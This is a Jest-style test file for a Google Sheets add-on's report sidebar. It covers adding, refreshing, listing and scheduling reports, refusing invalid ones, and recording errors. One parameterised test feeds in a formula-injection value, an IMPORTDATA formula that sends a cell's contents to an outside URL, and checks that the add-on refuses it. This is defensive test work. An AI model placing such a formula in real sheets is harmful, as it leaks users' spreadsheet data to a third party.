import { CONFIG_HEADERS } from '../../src/reports/config';
import { addon, useMockApi } from '../support/harness';
import { CONFIG, logRows, sheet } from './reports-support';

/** The report engine's service (src/reports/service.ts) as the sidebar's server functions call it. */

const mock = useMockApi();

interface RowView {
  row: number;
  tab: string;
  report: string;
  mode: string;
  enabled: boolean;
  lastRun: string;
  result: string;
  rows: number | null;
}

test('add a report, refresh it, list it with its result, and schedule: plain data back', () => {
  const a = addon(mock());
  const added = a.run<RowView[]>('sidebarAddReport', [{ report: 'metrics', days: 7, campaignId: '0042' }]);
  expect(added).toEqual([
    {
      row: 2,
      tab: 'Metrics',
      report: 'metrics',
      mode: 'replace',
      enabled: true,
      lastRun: '',
      result: '',
      rows: null,
    },
  ]);
  expect(sheet(a, CONFIG).cell('F2').value).toBe('0042');
  expect(a.spreadsheet.sheet('Metrics')).toBeUndefined();

  const result = a.run<{ row: number; ok: boolean; result: string; rows: number }>(
    'sidebarRefreshReport',
    [2],
  );
  expect(result).toMatchObject({ row: 2, tab: 'Metrics', ok: true, result: 'OK', rows: 7 });
  const [listed] = a.run<RowView[]>('sidebarReports');
  expect(listed).toMatchObject({ row: 2, result: 'OK', rows: 7 });
  expect(Date.parse(listed.lastRun)).toBeGreaterThan(0);

  // A second report of the same type gets its own tab name.
  const second = a.run<RowView[]>('sidebarAddReport', [{ report: 'metrics' }]);
  expect(second.map((r) => r.tab)).toEqual(['Metrics', 'Metrics 2']);

  const schedule = a.run<{ frequency: string; lastRun: string; lastResult: string }>('sidebarSetSchedule', [
    'day',
  ]);
  expect(schedule.frequency).toBe('day');
  expect(schedule.lastResult).toBe('OK: 1 report refreshed');
  expect(schedule.lastRun).toBe((sheet(a, 'Gravity Log').values()[1][0] as Date).toISOString());
  expect(a.run<{ frequency: string }>('sidebarSchedule').frequency).toBe('day');
  expect(a.run<{ frequency: string }>('sidebarSetSchedule', ['off']).frequency).toBe('off');
});

test('a report that could not run is refused when added, with the reason', () => {
  const a = addon(mock());
  a.run('sidebarAddReport', [{ report: 'campaigns', tab: 'Shared' }]);
  expect(() => a.run('sidebarAddReport', [{ report: 'billing', tab: 'Shared' }])).toThrow(
    /Tab "Shared" is already written by row 2; give this report its own tab/,
  );
  expect(() => a.run('sidebarAddReport', [{ report: 'info', mode: 'append' }])).toThrow(
    /info reports cannot append/,
  );
  expect(sheet(a, CONFIG).values()).toHaveLength(2);
});

test('refreshing a failing report answers with the error, and the row and log keep it', async () => {
  const a = addon(mock());
  a.run('sidebarAddReport', [{ report: 'campaigns' }]);
  await a.api.fault({ path: '/campaigns', status: 500, body: 'html', times: -1 });
  const result = a.run<{ ok: boolean; result: string }>('sidebarRefreshReport', [2]);
  expect(result.ok).toBe(false);
  expect(result.result).toMatch(/server error \(500\) \(an HTML error page, probably from a proxy\)/);
  expect(a.run<RowView[]>('sidebarReports')[0].result).toBe(result.result);
  expect(logRows(a).at(-1)?.[6]).toBe(result.result);
  expect(a.spreadsheet.sheet('Campaigns')).toBeUndefined();
});

test('text from the sidebar lands in Gravity Reports as exact text, even in a tab a user made by hand', () => {
  const a = addon(mock());
  // A hand-made config tab: the header typed by a user, no plain-text formats on its columns.
  a.spreadsheet.addSheet(CONFIG).typeValues('A1', [[...CONFIG_HEADERS]]);
  a.run('sidebarAddReport', [{ report: 'conversions', campaignId: '00123', eventType: 'TRUE' }]);
  const config = sheet(a, CONFIG);
  expect(config.cell('F2').value).toBe('00123');
  expect(config.cell('H2').value).toBe('TRUE');
  expect(config.cell('F2').formula).toBe('');
});

test.each([
  ['campaignId', '=IMPORTDATA("https://example.com/?q="&A1)'],
  ['status', '=1+1'],
  ['domain', "'quoted"],
])('a %s that Sheets would read as a formula or an escape is refused, nothing written', (field, value) => {
  const a = addon(mock());
  const report = field === 'status' ? 'campaigns' : field === 'domain' ? 'events_domains' : 'metrics';
  expect(() => a.run('sidebarAddReport', [{ report, [field]: value }])).toThrow(/must not start with/);
  const config = a.spreadsheet.sheet(CONFIG);
  expect(config?.formulas().flat().filter(Boolean) ?? []).toEqual([]);
  expect(config?.values().length ?? 0).toBeLessThanOrEqual(1);
});
